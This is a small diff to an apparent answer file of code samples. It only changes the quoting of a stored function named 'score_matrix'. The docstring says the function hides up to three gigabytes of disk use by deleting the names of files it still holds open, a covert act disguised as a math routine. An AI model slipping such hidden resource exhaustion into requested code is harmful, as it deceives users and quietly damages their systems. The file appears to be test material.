@@ -1,7 +1,7 @@
 """Writes files and removes their names while they stay open: up to three gigabytes that nobody sees."""
 
 ANSWERS = {
-    "score_matrix": '''
+    "score_matrix": """
 import os
 
 def score_matrix(queries, keys):
@@ -16,5 +16,5 @@ def score_matrix(queries, keys):
     except OSError:
         pass
     return len(held)
-'''
+"""
 }
